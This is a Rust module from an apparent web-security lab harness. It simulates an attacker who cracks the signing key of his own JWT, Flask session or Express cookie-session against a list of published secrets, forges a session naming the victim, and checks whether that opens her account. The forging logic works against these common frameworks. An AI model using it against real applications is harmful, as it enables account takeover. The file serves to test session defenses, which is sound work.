//! `forged-cookie`: crack the key of one's own session token, then sign one
//! that names the victim.
//!
//! The attacker signs in as himself and finds a JWT among his cookies. Its
//! HS256 signature lets him test candidate keys offline, without a single
//! request: for each secret on a list published in tutorials and docs, does
//! HMAC-SHA256 of `header.payload` give the signature? The seed's
//! `38sisjsk92` is on the list because the tutorial printed it. With the
//! key, he writes `"sub": "alice"` and signs it. Server-side sessions give
//! him no token to crack; a random 256-bit key is on no list.
//!
//! Against a target file's app the same run looks at every cookie for the
//! JWT and finds which claim holds the attacker's username (not always
//! `sub`): that is the claim rewritten. Without a JWT (or a Flask session,
//! below) it is not-applicable, with what the cookies are instead.
//!
//! Flask's default session is the same weakness in another format: the
//! whole session dict in the cookie, signed by itsdangerous with HMAC-SHA1
//! under a key derived from `app.secret_key` ([`tokens::flask`]). The
//! attacker cracks that key from the same list, swaps his username for the
//! victim's in whichever key holds it, and re-signs with a fresh timestamp.
//!
//! Express's `cookie-session` is the same again: the session as base64
//! JSON in cookie `NAME`, Keygrip's HMAC-SHA1 of `NAME=VALUE` in `NAME.sig`
//! ([`tokens::cookie_session`]). Cracked from the same list, the forger
//! plants both cookies.

use std::time::{SystemTime, UNIX_EPOCH};

use sessionlab_browser::Browser;

use crate::actors::{OwnToken, judge, log_in, own_token, probe_account, read_own_note};
use crate::lab::{RunContext, RunError, plant_cookie};
use crate::outcome::{Actor, Verdict};
use crate::tokens;
use crate::tokens::cookie_session::CookieSession;
use crate::tokens::flask::FlaskSession;

pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
    let mut victim = ctx.browser(Actor::Victim, "victim");
    log_in(ctx, &mut victim, &ctx.victim).await?;
    let note = read_own_note(ctx, &mut victim).await?;
    ctx.step(
        Actor::Victim,
        format!("{} logged in and opened her account", ctx.victim.username),
        "saw her private note",
    );

    let mut attacker = ctx.browser(Actor::Attacker, "attacker");
    log_in(ctx, &mut attacker, &ctx.attacker).await?;
    if let Some((cookie, session)) = flask_cookie(&attacker) {
        return forge_flask(ctx, &cookie, &session, &note).await;
    }
    if let Some(session) = cookie_session(&attacker) {
        return forge_cookie_session(ctx, &session, &note).await;
    }
    let OwnToken {
        cookie,
        jwt,
        identity_claim,
    } = match own_token(
        ctx,
        &attacker,
        "who is signed in stays on the server, so there is nothing to crack or forge",
    ) {
        Ok(found) => found,
        Err(verdict) => return Ok(verdict),
    };

    let action = format!(
        "tried {} secrets published in tutorials and docs against the token's {} signature, offline",
        published().count(),
        jwt.alg().unwrap_or("unstated")
    );
    if jwt.alg() != Some("HS256") {
        let evidence = format!(
            "the token is signed with {}, not HS256: no shared secret to guess from a list",
            jwt.alg().unwrap_or("no stated algorithm")
        );
        let step = ctx.step(Actor::Attacker, action, &evidence);
        return Ok(Verdict::blocked(evidence, step));
    }
    let secret = match cracked(ctx, action, "key", tokens::crack(&jwt, published())) {
        Ok(secret) => secret,
        Err(verdict) => return Ok(verdict),
    };

    let mut claims = jwt.claims.clone();
    claims.insert(identity_claim.clone(), ctx.victim.username.clone().into());
    let forged = tokens::sign_hs256(&claims, secret.as_bytes());
    let did = format!(
        "signed a token saying \"{identity_claim}\": \"{}\" with the key and opened {} with it",
        ctx.victim.username,
        ctx.target.proof_path()
    );
    let cookies = [(cookie.as_str(), forged.as_str())];
    open_with_forgery(
        ctx,
        &cookies,
        did,
        ("key", secret),
        "the forged token",
        &note,
    )
    .await
}

/// The published secrets the attacker tries, offline.
fn published() -> impl Iterator<Item = &'static str> {
    tokens::wordlist(tokens::PUBLISHED_SECRETS)
}

/// The offline crack as one attacker step: `action` says what was tried
/// against what, `found` the secret that reproduced the signature. None did:
/// the verdict is `blocked`, the app's `key_name` being on no published list.
fn cracked(
    ctx: &mut RunContext,
    action: String,
    key_name: &str,
    found: Option<&'static str>,
) -> Result<&'static str, Verdict> {
    let Some(secret) = found else {
        let evidence = format!(
            "none of the {} secrets reproduces the signature: the {key_name} is on no published list",
            published().count()
        );
        let step = ctx.step(Actor::Attacker, action, &evidence);
        return Err(Verdict::blocked(evidence, step));
    };
    ctx.step(
        Actor::Attacker,
        action,
        format!("{key_name} {secret:?} reproduces the signature: that is the app's key"),
    );
    Ok(secret)
}

/// Plants the forged `cookies` in a fresh browser of the attacker's and
/// opens the proof page with them: the verdict is what that page shows.
/// `key` is the cracked key, named as the app calls it.
async fn open_with_forgery(
    ctx: &mut RunContext,
    cookies: &[(&str, &str)],
    did: String,
    (key_name, secret): (&str, &str),
    what: &str,
    note: &str,
) -> Result<Verdict, RunError> {
    let proof = ctx.proof_url();
    let mut forger = ctx.browser(Actor::Attacker, "attacker-forged");
    for (name, value) in cookies {
        plant_cookie(&mut forger, &proof, name, value);
    }
    let probe = probe_account(&mut forger, proof).await?;
    Ok(judge(
        ctx,
        &did,
        &probe,
        note,
        &format!("the {key_name} {secret:?} was on the list of published secrets"),
        what,
    ))
}

/// The attacker's cookie that is a Flask session, if any: found by its
/// value, whatever the app named it.
fn flask_cookie(browser: &Browser) -> Option<(String, FlaskSession)> {
    browser
        .jar
        .cookies()
        .iter()
        .find_map(|c| Some((c.name.clone(), tokens::flask::decode(&c.value)?)))
}

/// The Flask path: the key holding his username, the cracked `secret_key`,
/// a session naming the victim signed with it and stamped now.
async fn forge_flask(
    ctx: &mut RunContext,
    cookie: &str,
    session: &FlaskSession,
    note: &str,
) -> Result<Verdict, RunError> {
    let action = format!(
        "logged in as {} and looked in his own cookies for a token",
        ctx.attacker.username
    );
    let data = serde_json::Value::Object(session.data.clone());
    let Some(key) = tokens::flask::identity_key(session, &ctx.attacker.username) else {
        let evidence = format!(
            "cookie {cookie} is a Flask signed session holding {data}, but no value is his username {:?}: it names its user some other way",
            ctx.attacker.username
        );
        let step = ctx.step(Actor::Attacker, action, &evidence);
        return Ok(Verdict::not_applicable(evidence, step));
    };
    ctx.step(
        Actor::Attacker,
        action,
        format!(
            "cookie {cookie} is Flask's signed session (itsdangerous, readable without a key): {data}; \"{key}\" holds his username"
        ),
    );

    let action = format!(
        "tried {} secrets published in tutorials and docs as Flask's secret_key against the cookie's HMAC-SHA1 signature (salt \"{}\"), offline",
        published().count(),
        tokens::flask::SALT
    );
    let found = tokens::flask::crack(session, published());
    let secret = match cracked(ctx, action, "secret_key", found) {
        Ok(secret) => secret,
        Err(verdict) => return Ok(verdict),
    };

    let mut data = session.data.clone();
    data.insert(key.clone(), ctx.victim.username.clone().into());
    let now = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |since| since.as_secs());
    let forged = tokens::flask::sign(&data, secret.as_bytes(), now);
    let did = format!(
        "signed a Flask session saying \"{key}\": \"{}\" with the key, stamped now, and opened {} with it",
        ctx.victim.username,
        ctx.target.proof_path()
    );
    let cookies = [(cookie, forged.as_str())];
    let cracked = ("secret_key", secret);
    open_with_forgery(
        ctx,
        &cookies,
        did,
        cracked,
        "the forged session cookie",
        note,
    )
    .await
}

/// The attacker's express cookie-session, if any: a cookie whose value is
/// base64 JSON and whose `.sig` companion he also holds.
fn cookie_session(browser: &Browser) -> Option<CookieSession> {
    let cookies = browser.jar.cookies();
    cookies.iter().find_map(|c| {
        let sig_name = tokens::cookie_session::sig_name(&c.name);
        let sig = cookies.iter().find(|s| s.name == sig_name)?;
        tokens::cookie_session::decode(&c.name, &c.value, &sig.value)
    })
}

/// The cookie-session path: the key holding his username, the cracked
/// Keygrip key, a session naming the victim and its `.sig`, both planted.
async fn forge_cookie_session(
    ctx: &mut RunContext,
    session: &CookieSession,
    note: &str,
) -> Result<Verdict, RunError> {
    let cookie = &session.name;
    let sig_cookie = tokens::cookie_session::sig_name(cookie);
    let action = format!(
        "logged in as {} and looked in his own cookies for a token",
        ctx.attacker.username
    );
    let data = serde_json::Value::Object(session.data.clone());
    let Some(key) = tokens::cookie_session::identity_key(session, &ctx.attacker.username) else {
        let evidence = format!(
            "cookie {cookie} is an express cookie-session holding {data}, but no value is his username {:?}: it names its user some other way",
            ctx.attacker.username
        );
        let step = ctx.step(Actor::Attacker, action, &evidence);
        return Ok(Verdict::not_applicable(evidence, step));
    };
    ctx.step(
        Actor::Attacker,
        action,
        format!(
            "cookie {cookie} is express cookie-session's session (base64 JSON, readable without a key): {data}; \"{key}\" holds his username; {sig_cookie} signs it"
        ),
    );

    let action = format!(
        "tried {} secrets published in tutorials and docs as Keygrip keys against {sig_cookie}, HMAC-SHA1 of \"{cookie}=<value>\", offline",
        published().count()
    );
    let found = tokens::cookie_session::crack(session, published());
    let secret = match cracked(ctx, action, "key", found) {
        Ok(secret) => secret,
        Err(verdict) => return Ok(verdict),
    };

    let mut data = session.data.clone();
    data.insert(key.clone(), ctx.victim.username.clone().into());
    let (value, sig) = tokens::cookie_session::sign(cookie, &data, secret.as_bytes());
    let did = format!(
        "signed a cookie-session saying \"{key}\": \"{}\" with the key, planted it and its {sig_cookie}, and opened {} with them",
        ctx.victim.username,
        ctx.target.proof_path()
    );
    let cookies = [
        (cookie.as_str(), value.as_str()),
        (sig_cookie.as_str(), sig.as_str()),
    ];
    open_with_forgery(
        ctx,
        &cookies,
        did,
        ("key", secret),
        "the forged session cookies",
        note,
    )
    .await
}

#[cfg(test)]
mod tests {
    use sessionlab_app::{Defense, Profile, ProfileName};

    use crate::actors::run_against;
    use crate::outcome::Outcome;

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_random_key_is_on_no_list_and_the_seed_key_is() {
        let random_key = Profile::new(ProfileName::Insecure).with(Defense::SecretFromEnv);
        let result = run_against("forged-cookie", random_key).await;
        assert_eq!(result.outcome, Outcome::Blocked, "{}", result.evidence);
        assert!(
            result.evidence.contains("none of the"),
            "{}",
            result.evidence
        );

        let seed_key = Profile::new(ProfileName::Hardened)
            .without(Defense::ServerSideSessions)
            .without(Defense::SecretFromEnv);
        let result = run_against("forged-cookie", seed_key).await;
        assert_eq!(result.outcome, Outcome::Compromised, "{}", result.evidence);
        assert!(
            result.evidence.contains("38sisjsk92"),
            "{}",
            result.evidence
        );
    }
}
